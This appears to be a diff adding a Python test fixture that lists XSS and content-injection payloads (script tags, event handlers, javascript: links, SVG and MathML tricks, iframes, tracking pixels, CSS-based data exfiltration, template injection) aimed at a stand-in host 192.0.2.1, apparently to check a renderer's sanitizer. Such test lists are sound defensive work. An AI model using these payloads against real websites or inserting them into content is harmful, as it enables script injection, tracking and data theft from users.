@@ -1,0 +1,93 @@
+"""What a hostile note, title, tag, file name or model may hold. Each would set ``window.pwned`` or ask 192.0.2.1."""
+
+from __future__ import annotations
+
+_FAR = "http://192.0.2.1"
+_RUN = "window.pwned=1"
+
+PAYLOADS = (
+    # scripts
+    f"<script>{_RUN}</script>",
+    f"<SCRIPT SRC={_FAR}/a.js></SCRIPT>",
+    f"<script type=module>import('{_FAR}/a.js')</script>",
+    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
+    f"</script><script>{_RUN}</script>",
+    f"<script\x0c>{_RUN}</script\x0c>",
+    f"<noscript><p title='</noscript><script>{_RUN}</script>'></noscript>",
+    f"<template><script>{_RUN}</script></template>",
+    f"<!--><script>{_RUN}</script>-->",
+    f"<![CDATA[<script>{_RUN}</script>]]>",
+    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
+    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
+    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
+    # event handlers
+    f"<img src=x onerror={_RUN}>",
+    f'"><img src=x onerror={_RUN}>',
+    f"' onmouseover='{_RUN}' x='",
+    f'" autofocus onfocus="{_RUN}" x="',
+    f"<img/src='x'/onerror='{_RUN}'>",
+    f"<body onload={_RUN}>",
+    f"<input autofocus onfocus={_RUN}>",
+    f"<details open ontoggle={_RUN}>",
+    f"<video><source onerror={_RUN}></video>",
+    f"<audio src=x onerror={_RUN}>",
+    f"<marquee onstart={_RUN}>x</marquee>",
+    f"<select autofocus onfocus={_RUN}>",
+    f"<p style=animation-name:fn-rise onanimationstart={_RUN}>x</p>",
+    f"<div onpointerrawupdate={_RUN} style=position:fixed;inset:0>x</div>",
+    f"<img srcset='{_FAR}/a.png 2x' src=x onload={_RUN}>",
+    # links
+    f"[click](javascript:{_RUN})",
+    f"[click](JaVaScRiPt:{_RUN})",
+    f"[click](java\tscript:{_RUN})",
+    f"[click](&#106;avascript:{_RUN})",
+    f"[click](data:text/html,<script>{_RUN}</script>)",
+    f"[click](vbscript:{_RUN})",
+    f"<javascript:{_RUN}>",
+    f"[[javascript:{_RUN}]]",
+    f"<a href=javascript:{_RUN}>x</a>",
+    f"<form action=javascript:{_RUN}><button>x</button></form>",
+    f'[x]: javascript:{_RUN} "title"\n\n[x]',
+    # SVG and MathML
+    f"<svg onload={_RUN}>",
+    f"<svg><script>{_RUN}</script></svg>",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
+    f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
+    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}></svg>#x'></svg>",
+    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
+    f"<math href=javascript:{_RUN}>x</math>",
+    f"$\\href{{javascript:{_RUN}}}{{x}}$",
+    f"$$\\text{{<img src=x onerror={_RUN}>}}$$",
+    # frames and documents
+    f"<iframe src={_FAR}></iframe>",
+    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
+    f"<object data={_FAR}/a.swf></object>",
+    f"<embed src={_FAR}/a.svg>",
+    f"<base href={_FAR}/>",
+    f"<meta http-equiv=refresh content='0;url={_FAR}'>",
+    f"<link rel=stylesheet href={_FAR}/a.css>",
+    f"<link rel=prefetch href={_FAR}/a>",
+    "</article></aside></body><iframe src=//192.0.2.1>",
+    # pictures and beacons
+    f"![x]({_FAR}/pixel.png)",
+    f"![[{_FAR}/pixel.png]]",
+    "![x](//192.0.2.1/pixel.png)",
+    f"<img src={_FAR}/pixel.png>",
+    f"<video poster={_FAR}/a.png></video>",
+    f"<table background={_FAR}/a.png><tr><td>x</table>",
+    f'![x]({_FAR}/"onerror="{_RUN})',
+    f'[x](http://192.0.2.1/?q="onmouseover={_RUN})',
+    # styles
+    f"<style>*{{background:url({_FAR})}}</style>",
+    f"<style>@import '{_FAR}/a.css';</style>",
+    f"<style>input[value^=a]{{background:url({_FAR}/a)}}</style>",
+    f"<p style=background:url({_FAR})>x</p>",
+    f"<style>@font-face{{font-family:x;src:url({_FAR}/f)}}*{{font-family:x}}</style>",
+    f"```html\n</code></pre><img src=x onerror={_RUN}>\n```",
+    # templates and prototypes
+    f"${{{_RUN}}}",
+    f"{{{{constructor.constructor('{_RUN}')()}}}}",
+    f"{{@html '<img src=x onerror={_RUN}>'}}",
+    "<b id=fn-box name=querySelector>x</b>",
+)
